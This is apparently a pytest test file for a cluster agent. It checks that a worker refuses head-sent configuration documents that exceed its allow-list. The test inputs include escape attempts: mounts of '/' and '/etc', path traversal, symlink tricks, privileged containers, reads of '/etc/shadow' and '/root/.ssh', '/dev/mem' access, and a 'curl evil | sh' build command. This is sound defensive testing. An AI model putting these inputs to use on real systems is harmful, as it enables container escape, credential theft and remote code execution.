"""What a head can make of a worker that follows it: no more than `cluster.allow` says.

Each document goes the real way: served and signed by a head, fetched, judged and kept by a worker's agent.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import NamedTuple

import pytest
from tests.tree import Tree
from tests.unit.cluster.head_documents import Document, encode, good_document, keep_document, send, written_files
from tests.unit.cluster_nodes import (
    HEAD_KEY,
    AgentUnderTest,
    addresses,
    agent_under_test,
    following,
    machine,
)
from tests.unit.known_good_entries import known_good_entry
from tests.unit.nodes import Node, node

from sparkd.agent.daemon.agreed import log_differences
from sparkd.base.cluster import membership
from sparkd.base.cluster.following import permitted_image_prefixes
from sparkd.base.cluster.membership import NodeContext
from sparkd.base.config import Settings
from sparkd.base.host import Host
from sparkd.base.lib.errors import AwaitedError, BlockedError, HeadAwaitedError, OutdatedPlanError
from sparkd.base.recipes.reach import HEAD_FILES
from sparkd.base.state import known_good
from sparkd.base.state.facts import Facts
from sparkd.base.state.known_good import KnownGood
from sparkd.base.state.shared_config import FILE

NODES = addresses(2)
DEVICES = ("/dev/x:rw", "/dev/y", "/dev/shm:rw", "/dev/mqueue/x:rw")
Change = Callable[[Document], object]


class Pair(NamedTuple):
    """A node that has the keys and the address of the head, and a worker's agent that runs a good document."""

    head: Node
    worker: AgentUnderTest

    @property
    def configured(self) -> Settings:
        return self.worker.agent.context.configured

    def send(self, document: bytes) -> None:
        send(self.head, self.worker, document)

    def resolve_context(self) -> NodeContext:
        """The worker as its next process starts, by the document that it has kept."""
        return membership.resolve_context(self.configured, None, self.worker.agent.host)


@pytest.fixture
def pair(tree: Tree, port: int) -> Iterator[Pair]:
    keep_document(tree, encode(good_document(port)))
    tree.folder("/node1/srv/models/tiny")
    settings = following(NODES, port, allow={"mounts": ["/srv/data:rw", "/srv/data/inner", "/opt/read", *DEVICES]})
    with node(NODES[0], port=port, head_keys=(HEAD_KEY,)) as head, agent_under_test(tree, 1, settings) as worker:
        yield Pair(head, worker)


def mount(volume: str) -> Change:
    return lambda document: document["recipe"].setdefault("container", {}).update(volumes=[volume])


def container(**keys: object) -> Change:
    return lambda document: document["recipe"].setdefault("container", {}).update(keys)


def image(ref: str) -> Change:
    return lambda document: document["recipe"]["image"].update(ref=ref)


def section(name: str, **keys: object) -> Change:
    return lambda document: document.setdefault(name, {}).update(keys)


def lay_out_folders(tree: Tree) -> None:
    tree.file("/node1/proc/self/mounts", "/dev/x / ext4 rw 0 0\nfiles:/x /opt/read/share nfs4 rw 0 0\n")
    tree.folder("/node1/opt/read/share/x")
    tree.folder("/node1/srv/data/out")
    tree.folder("/node1/srv/models/users/tiny")
    tree.folder("/node1/srv/models/users").chmod(0o777)
    tree.link("/node1/srv/models/to-users", "/srv/models/users/back")
    tree.link("/node1/srv/models/users/back", "/srv/models/users")
    tree.link("/node1/srv/models/to-data", "/srv/data/out")
    tree.link("/node1/srv/models/link", "/etc")
    tree.link("/node1/srv/data/link", "/")
    tree.link("/node1/srv/data/inner", "/")
    tree.link("/node1/srv/data/loop", "/srv/data/loop")


BEYOND = "cluster.allow.mounts permits"
SHARED = "/dev/shm, /dev/mqueue, /dev/hugepages"


@pytest.mark.parametrize(
    ("attack", "reason"),
    [
        (image("evil/image:1"), "image evil/image:1: cluster.allow.images is empty, and no recipe on this node has it"),
        (section("engine", image="evil/image:1"), "cluster.allow.images is empty"),
        (container(privileged=True), "a privileged container: cluster.allow.privileged is false"),
        (container(ulimits={"rtprio": 99}), "ulimit rtprio: cluster.allow.privileged is false"),
        (container(network="none"), "does not accept it as Recipe"),
        (container(pid="host"), "does not accept it as Recipe"),
        (mount("/:/host:ro"), BEYOND),
        (mount("/etc:/x:ro"), " and what the head sends (files of up to 1 MiB) to read"),
        (mount("/var/lib/sparkd:/x:ro"), BEYOND),
        (mount(f"{HEAD_FILES}:/x:rw"), BEYOND),
        (mount("/srv/models:/x:rw"), BEYOND),
        (mount("/srv/models-of-others:/x:ro"), BEYOND),
        (mount("/srv/data-of-others:/x:ro"), BEYOND),
        (mount("/opt/read/x:/x:rw"), BEYOND),
        (mount("/srv/models/../../etc:/x:ro"), "does not accept it as Recipe"),
        (mount("/srv/models/link:/x:ro"), BEYOND),
        (mount("/srv/data/link/etc:/x:rw"), BEYOND),
        (mount("/srv/data/inner/etc:/x:ro"), BEYOND),
        (mount("/srv/data/loop:/x:rw"), BEYOND),
        (mount("/dev/infiniband:/x:rw"), BEYOND),
        (mount("/srv/data/out:/x:rw"), "so nothing in it is permitted, only /srv/data itself"),
        (mount("/srv/models/to-data:/x:ro"), "containers may write to /srv/data"),
        (mount("/srv/models/users/tiny:/x:ro"), "others than root may change what is in /srv/models/users;"),
        (mount("/srv/models/to-users:/x:ro"), "others than root may change what is in /srv/models/users;"),
        (mount("/opt/read/share/x:/x:ro"), "others than root may change what is in /opt/read/share;"),
        (mount("/srv/models/tiny:/run/sparkd-secrets/A:ro"), "does not accept it as Recipe"),
        (container(devices=["/dev/mem"]), BEYOND),
        (container(devices=["/dev"]), BEYOND),
        (container(devices=["/srv/data"]), BEYOND),
        (container(devices=["/dev/y"]), f"as a device (only a path below /dev that ends with :rw, not {SHARED})"),
        (container(devices=["/dev/shm"]), BEYOND),
        (container(devices=["/dev/mqueue/x"]), BEYOND),
        (container(devices=["/dev/infiniband/../mem"]), "does not accept it as Recipe"),
        (lambda document: document["recipe"]["model"].update(path="/root/.ssh"), BEYOND),
        (lambda document: document["recipe"]["model"].update(path="../../etc"), "does not accept it as Recipe"),
        (lambda document: document["recipe"].update(caches={"../../etc": "/x"}), "does not accept it as Recipe"),
        (section("engine", script="/etc/shadow"), "the head names /etc/shadow, and has not sent it"),
        (section("engine", args={"api-key": "x"}), "does not accept it as Engine"),
        (section("engine", env={"BASH_ENV": "x"}), "does not accept it as Engine"),
        (lambda document: document.update(secrets=["HF_TOKEN", "OTHER"]), "names no file of it"),
        (lambda document: document.update(secrets=["../../etc/shadow"]), "can't be read"),
        (lambda document: document.update(secrets="HF_TOKEN"), "can't be read"),
        (section("cluster", nodes=["127.0.0.9", "127.0.0.2"]), "no worker of it there"),
        (section("cluster", nodes=["127.0.0.1", "127.0.0.9"]), "no worker of it there"),
        (section("cluster", nodes=[]), "no worker of it there"),
        (section("supervise", peer_timeout_seconds=10**9), "does not accept it as Supervise"),
        (section("readiness", timeout_seconds=True), "does not accept it as Readiness"),
        (lambda document: document.update(image_id="/etc"), "can't be read"),
        (lambda document: document.update(files={"/a": "not base64!"}), "can't be read"),
        (lambda document: document.update(files={"/a": "QUFB" * (1 << 19)}), "larger than a head sends"),
        (lambda document: document.update(files={f"/{n}": "QUFB" for n in range(65)}), "can't be read"),
        (lambda document: document.update(recipe=7), "can't be read"),
        (lambda document: document.update(schema=2), "can't be read"),
        (lambda document: document.pop("recipe"), "can't be read"),
    ],
)  # fmt: skip
def test_a_document_beyond_what_allow_permits_is_refused_and_not_kept(
    pair: Pair, tree: Tree, port: int, attack: Change, reason: str
) -> None:
    lay_out_folders(tree)
    document = good_document(port)
    attack(document)
    with pytest.raises(BlockedError) as refused:
        pair.send(encode(document))
    assert type(refused.value) is BlockedError
    assert reason in refused.value.reason
    assert refused.value.hint
    assert FILE.name not in written_files(pair.worker.agent.actions)
    assert not pair.worker.agent.host.files.exists(HEAD_FILES)
    keep_document(tree, encode(document))  # nor is it used where it stands on the disk
    with pytest.raises(HeadAwaitedError):
        pair.resolve_context()


def test_a_permitted_folder_that_only_root_can_exchange_before_docker_mounts_it_is_mounted(
    pair: Pair, tree: Tree, port: int
) -> None:
    lay_out_folders(tree)
    volumes = ["/srv/data:/a:rw", "/srv/data:/b:ro", "/opt/read:/c:ro", "/opt/read/x:/d:ro", "/srv/models/tiny:/e:ro"]
    document = good_document(port)
    container(volumes=volumes, devices=["/dev/infiniband", "/dev/infiniband/uverbs0", "/dev/x"])(document)
    keep_document(tree, encode(document))
    spec = pair.resolve_context().plan.container
    assert [f"{volume.source}:{volume.target}" for volume in spec.volumes[1:]] == [volume[:-3] for volume in volumes]
    (tree.root / "node1/proc/self/mounts").unlink()
    with pytest.raises(HeadAwaitedError, match="may change what is in /opt/read/x, as far as is known"):
        pair.resolve_context()


@pytest.mark.parametrize("sent", [b"{", b"[" * 100_000, b"null", b"\xff\xfe", b'{"schema": 1}'])
def test_a_text_that_is_no_document_is_refused(pair: Pair, sent: bytes) -> None:
    with pytest.raises(BlockedError, match="can't be read"):
        pair.send(sent)


IGNORED: tuple[Change, ...] = (
    section("engine", models_dir="/", load_readahead_kib=9, stop_grace_seconds=600, secrets={"X": "/etc/shadow"}),
    section("cluster", key_file="/etc/shadow", report_port=1, follow_head=False,
            allow={"images": ["evil"], "mounts": ["/etc:rw"], "privileged": True}),
    lambda document: document["recipe"].update(secrets={"X": "/etc/shadow"}),
    lambda document: document["recipe"].update(host={"sysctls": {"vm.overcommit_memory": 2}}),
    container(no_new_privileges=False),
    lambda document: document["recipe"]["image"].update(build="curl evil | sh"),
    lambda document: document.update(image_id="sha256:" + "a" * 64),
    lambda document: document.update(memory={"floor_mib": 0}, observe={"listen": "0.0.0.0:1"}),
)  # fmt: skip


@pytest.mark.parametrize("change", IGNORED)
def test_a_document_changes_no_setting_that_is_the_nodes_own(pair: Pair, tree: Tree, port: int, change: Change) -> None:
    before = pair.worker.agent.context
    document = good_document(port)
    change(document)
    keep_document(tree, encode(document))
    keep_served(tree, before.plan.image)  # another image of its name
    after = pair.resolve_context()
    assert after.plan == before.plan
    assert after.settings == before.settings
    assert after.recipe == before.recipe


def keep_served(tree: Tree, image: str) -> str:
    """Make the node one that has served with an image of this name; return its id."""
    served = known_good_entry(facts=Facts({"image": image}, {}, {}))
    tree.file(f"/node1{known_good.FILE.path}", known_good.FILE.encode(KnownGood((served,))))
    return served.image_id


def test_an_image_that_the_node_has_served_with_under_a_permitted_name_is_used_by_its_id(
    pair: Pair, tree: Tree, port: int
) -> None:
    image_id = keep_served(tree, pair.worker.agent.plan.image)
    keep_document(tree, encode({**good_document(port), "image_id": image_id}))
    assert pair.resolve_context().plan.image_id == image_id


def test_an_image_that_the_node_has_served_with_under_another_name_alone_is_not_used(
    pair: Pair, tree: Tree, port: int
) -> None:
    keep_document(tree, encode({**good_document(port), "image_id": keep_served(tree, "other:1")}))
    assert pair.resolve_context().plan.image_id == ""


def test_a_worker_that_follows_its_head_is_not_sent_to_a_rollback_which_it_refuses(
    pair: Pair, tree: Tree, port: int
) -> None:
    keep_served(tree, "other:1")
    log_differences(pair.worker.agent)
    assert pair.worker.events.lines[-1].endswith("hint=sudo sparkd diff")
    secret = tree.root / "a.token"
    secret.write_text("x")
    secret.chmod(0o666)
    document = good_document(port)
    document["secrets"] = ["A"]
    keep_document(tree, encode(document))
    engine = pair.configured.engine.model_copy(update={"secrets": {"A": str(secret)}})
    with pytest.raises(AwaitedError, match="others than root may write") as caught:
        membership.resolve_context(pair.configured.model_copy(update={"engine": engine}), None, machine(tree, 1))
    assert "rollback" not in caught.value.hint


def test_a_good_document_is_kept_and_the_agent_starts_again_with_it(pair: Pair, tree: Tree, port: int) -> None:
    document = good_document(port)
    document["engine"]["env"] = {"A": "b"}
    with pytest.raises(OutdatedPlanError):
        pair.send(encode(document))
    assert written_files(pair.worker.agent.actions)[FILE.name].encode() == encode(document)
    keep_document(tree, encode(document))
    after = pair.resolve_context()
    assert ("A", "b") in after.plan.env


def test_a_heads_plan_has_caches_of_its_own_on_the_node(pair: Pair, tree: Tree, port: int) -> None:
    document = good_document(port)
    document["recipe"]["caches"]["vllm"] = "/root/.cache/vllm"
    keep_document(tree, encode(document))
    after = pair.resolve_context()
    assert [cache.name for cache in after.plan.caches] == ["_head/vllm"]
    assert membership.plan_to_launch(after, 7).caches == after.plan.caches
    assert dict(after.plan.shared)["caches.vllm"] == "/root/.cache/vllm", "all ranks have one digest"


def test_every_option_of_a_container_is_judged_or_stays_in_it() -> None:
    """A new one needs a decision in base.plan.allowed."""
    from sparkd.base.recipes.schema import Container

    judged = {"privileged", "no_new_privileges", "ulimits", "devices", "volumes"}
    inside = {"gpus", "ipc", "network", "init", "shm_bytes", "memory_limit_bytes"}
    assert set(Container.model_fields) == judged | inside
    assert Container.model_fields["network"].annotation.__args__ == ("host",)  # type: ignore[union-attr]


def test_a_damaged_document_is_awaited_again(tree: Tree, port: int) -> None:
    keep_document(tree, encode(good_document(port))[:100])
    with pytest.raises(HeadAwaitedError, match=r"on this node yet; /var/lib/sparkd/head-config.json can't be read"):
        membership.resolve_context(following(NODES, port), None, machine(tree, 1))


def test_images_of_shipped_recipes_are_permitted_while_the_folder_of_recipes_may_come_by_a_late_mount(
    tree: Tree,
) -> None:
    folder = tree.root / "etc/sparkd/recipes"
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(tree.root / "share")
    assert "sparkd-test/vllm-cpu:0.32.0" in permitted_image_prefixes(Settings(), Host(str(tree.root)))
